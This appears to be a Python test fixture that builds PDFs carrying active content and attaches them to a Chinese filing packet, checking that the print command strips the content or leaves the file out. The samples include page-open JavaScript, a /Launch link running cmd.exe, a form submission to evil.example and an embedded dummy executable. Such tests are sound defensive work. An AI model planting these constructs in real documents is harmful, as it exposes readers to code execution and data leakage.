"""Hostile attachments: PDFs with active content appended to the 备案材料 packet.

The PDFs are built here by script (reportlab for a visible page, pypdf for the attacks): page-open
JavaScript, an OpenAction script, document JavaScript, a ``/Launch cmd.exe`` link, an embedded
executable, a file-attachment annotation, web links, form submission, XFA, scripts in outline items
and in action chains. ``print filing`` must still print the packet (exit 0) and say per attachment what
it removed (a warning on stderr, one line per attachment); a PDF whose active content cannot be
removed is left out and listed.
"""

from __future__ import annotations

import io
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from hostile import Case

ROOT = Path(__file__).resolve().parents[3]
#: the demonstration ledger's object whose newest filing is a 2025 form (deterministic demo data)
DEMO_OBJECT = 2
VISIBLE_TEXT = "VISIBLE ATTACHMENT TEXT"

#: every attack :func:`hostile_pdf` can put in
ATTACKS = (
    "page-js",  # /AA on the page: JavaScript when the page opens
    "open-js",  # /OpenAction on the catalog: JavaScript when the file opens
    "doc-js",  # /Names /JavaScript: document-level scripts
    "launch",  # a link that starts cmd.exe
    "uri",  # a web link
    "embedded",  # /Names /EmbeddedFiles: an attached executable
    "file-annot",  # a file-attachment annotation carrying an executable
    "submit",  # a link that sends form data
    "import",  # a link that imports data from a file
    "gotor",  # a link that opens another PDF
    "chain",  # a harmless GoTo whose /Next runs JavaScript
    "outline",  # an outline item running JavaScript
    "xfa",  # an XFA form with a scripted field (/AA on the widget)
)
#: strings that must not survive into the packet
PAYLOADS = (b"cmd.exe", b"app.alert", b"MZ-PAYLOAD", b"evil.example", b"xfa:script", b"other.pdf")


def _base_pdf(text: str, pages: int = 1) -> bytes:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buf = io.BytesIO()
    c = canvas.Canvas(buf, pagesize=A4)
    for n in range(pages):
        c.setFont("Helvetica", 18)
        c.drawString(72, 720, f"{text} {n + 1}" if pages > 1 else text)
        c.showPage()
    c.save()
    return buf.getvalue()


def _js(code: str) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(code)}
    )


def _link(writer: PdfWriter, action: DictionaryObject, y: int) -> None:
    annot = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(72), FloatObject(y), FloatObject(300), FloatObject(y + 20)]),
            NameObject("/Border"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(0)]),
            NameObject("/A"): writer._add_object(action),
        }
    )
    writer.add_annotation(0, annot)


def _stream(writer: PdfWriter, data: bytes, **entries: str) -> object:
    stream = DecodedStreamObject()
    stream.set_data(data)
    for key, value in entries.items():
        stream[NameObject(f"/{key}")] = NameObject(value)
    return writer._add_object(stream)


def hostile_pdf(attacks: tuple[str, ...] | list[str] = ATTACKS, *, text: str = VISIBLE_TEXT) -> bytes:
    """A one-page PDF showing ``text`` and carrying the named ``attacks`` (see :data:`ATTACKS`)."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_base_pdf(text))))
    page = writer.pages[0]
    root = writer.root_object
    if "page-js" in attacks:
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _js("app.alert('page opened')")})
    if "open-js" in attacks:
        root[NameObject("/OpenAction")] = writer._add_object(_js("app.alert('file opened')"))
    if "doc-js" in attacks:
        names = root.setdefault(NameObject("/Names"), DictionaryObject())
        names[NameObject("/JavaScript")] = DictionaryObject(
            {
                NameObject("/Names"): ArrayObject(
                    [TextStringObject("doc"), writer._add_object(_js("app.alert('document script');"))]
                )
            }
        )
    if "launch" in attacks:
        launch = DictionaryObject(
            {
                NameObject("/S"): NameObject("/Launch"),
                NameObject("/F"): TextStringObject("cmd.exe"),
                NameObject("/Win"): DictionaryObject(
                    {
                        NameObject("/F"): TextStringObject("cmd.exe"),
                        NameObject("/P"): TextStringObject("/c calc.exe"),
                    }
                ),
                NameObject("/NewWindow"): NameObject("/true"),
            }
        )
        _link(writer, launch, 600)
    if "uri" in attacks:
        uri = DictionaryObject(
            {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://evil.example/x")}
        )
        _link(writer, uri, 560)
    if "embedded" in attacks:
        writer.add_attachment("payload.exe", b"MZ-PAYLOAD embedded executable")
    if "file-annot" in attacks:
        spec = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Filespec"),
                NameObject("/F"): TextStringObject("tool.exe"),
                NameObject("/EF"): DictionaryObject(
                    {NameObject("/F"): _stream(writer, b"MZ-PAYLOAD annotated executable", Type="/EmbeddedFile")}
                ),
            }
        )
        annot = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/FileAttachment"),
                NameObject("/Rect"): ArrayObject([FloatObject(400), FloatObject(700), FloatObject(420), FloatObject(720)]),
                NameObject("/FS"): writer._add_object(spec),
                NameObject("/Name"): NameObject("/PushPin"),
            }
        )
        writer.add_annotation(0, annot)
    if "submit" in attacks:
        submit = DictionaryObject(
            {
                NameObject("/S"): NameObject("/SubmitForm"),
                NameObject("/F"): DictionaryObject(
                    {NameObject("/FS"): NameObject("/URL"), NameObject("/F"): TextStringObject("https://evil.example/post")}
                ),
            }
        )
        _link(writer, submit, 520)
    if "import" in attacks:
        imp = DictionaryObject({NameObject("/S"): NameObject("/ImportData"), NameObject("/F"): TextStringObject("other.pdf.fdf")})
        _link(writer, imp, 480)
    if "gotor" in attacks:
        gotor = DictionaryObject(
            {
                NameObject("/S"): NameObject("/GoToR"),
                NameObject("/F"): TextStringObject("other.pdf"),
                NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")]),
            }
        )
        _link(writer, gotor, 440)
    if "chain" in attacks:
        goto = DictionaryObject(
            {
                NameObject("/S"): NameObject("/GoTo"),
                NameObject("/D"): ArrayObject([page.indirect_reference, NameObject("/Fit")]),
                NameObject("/Next"): writer._add_object(_js("app.alert('chained')")),
            }
        )
        _link(writer, goto, 400)
    if "outline" in attacks:
        item = writer.add_outline_item(title="Start", page_number=0).get_object()
        item[NameObject("/A")] = writer._add_object(_js("app.alert('outline')"))
        if "/Dest" in item:
            del item["/Dest"]
    if "xfa" in attacks:
        widget = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Widget"),
                NameObject("/FT"): NameObject("/Tx"),
                NameObject("/T"): TextStringObject("name"),
                NameObject("/Rect"): ArrayObject([FloatObject(72), FloatObject(300), FloatObject(300), FloatObject(320)]),
                NameObject("/AA"): DictionaryObject({NameObject("/K"): _js("app.alert('keystroke')")}),
            }
        )
        widget_ref = writer.add_annotation(0, widget).indirect_reference
        xfa = _stream(writer, b"<xdp:xdp><template><field><event><xfa:script>app.alert(1)</xfa:script></event></field></template></xdp:xdp>")
        root[NameObject("/AcroForm")] = writer._add_object(
            DictionaryObject({NameObject("/Fields"): ArrayObject([widget_ref]), NameObject("/XFA"): xfa})
        )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def uncleanable_pdf() -> bytes:
    """A PDF whose page names ``/Launch`` under a key no cleaner knows: it must be left out, not trusted."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_base_pdf("UNCLEANABLE ATTACHMENT"))))
    writer.pages[0][NameObject("/PieceInfo")] = DictionaryObject(
        {NameObject("/Vendor"): DictionaryObject({NameObject("/Private"): NameObject("/Launch")})}
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


_ATTACH = """
import sys
import sqlalchemy as sa
from db.models import Filing, FilingMaterial
from db.store.storage import open_ledger
from desktop.services import attachments, records

ledger = open_ledger(sys.argv[1], create=False)
try:
    with ledger.session(write=False) as s:
        filing = s.scalar(sa.select(Filing.id).where(Filing.object_id == int(sys.argv[2])).order_by(Filing.id.desc()))
        material = s.scalar(sa.select(FilingMaterial.id).where(FilingMaterial.filing_id == filing)
                            .order_by(FilingMaterial.id.desc()))
    info = attachments.add_file(ledger, "filings", filing, sys.argv[3])
    records.set_material(ledger, material, present=True, attachment_id=info.id)
finally:
    ledger.close()
"""


def attach_to_demo_filing(ledger: Path, pdf: Path, object_id: int = DEMO_OBJECT) -> None:
    """Attach ``pdf`` to the newest filing of ``object_id`` (its last material) in a separate process."""
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT), os.environ.get("PYTHONPATH", "")])}
    subprocess.run(
        [sys.executable, "-c", _ATTACH, str(ledger), str(object_id), str(pdf)], check=True, cwd=ROOT, env=env
    )


def _builder(name: str, data: bytes) -> Callable[[Path], None]:
    def build(work: Path) -> None:
        pdf = work / name
        pdf.write_bytes(data)
        attach_to_demo_filing(work / "L.db", pdf)

    return build


def cases() -> list[Case]:
    out = ["print", "filing", "--object", str(DEMO_OBJECT), "--out", "{work}/备案材料.pdf"]
    return [
        Case(
            "附件PDF带页面JavaScript和启动cmd.exe的链接",
            out,
            build=_builder("定级报告.pdf", hostile_pdf(("page-js", "open-js", "launch"))),
            exit_code=0,
            says="已移除：JavaScript、启动外部程序的动作",
        ),
        Case(
            "附件PDF嵌入可执行文件、带网址链接和XFA表单",
            out,
            build=_builder("拓扑图.pdf", hostile_pdf(("embedded", "file-annot", "uri", "xfa"))),
            exit_code=0,
            says="嵌入的文件",
        ),
        Case(
            "附件PDF集齐各种活动内容",
            out,
            build=_builder("全部.pdf", hostile_pdf()),
            exit_code=0,
            says="已移除",
        ),
        Case(
            "附件PDF中有无法清除的活动内容",
            out,
            build=_builder("无法清除.pdf", uncleanable_pdf()),
            exit_code=0,
            says="含无法清除的活动内容，未附入",
        ),
    ]
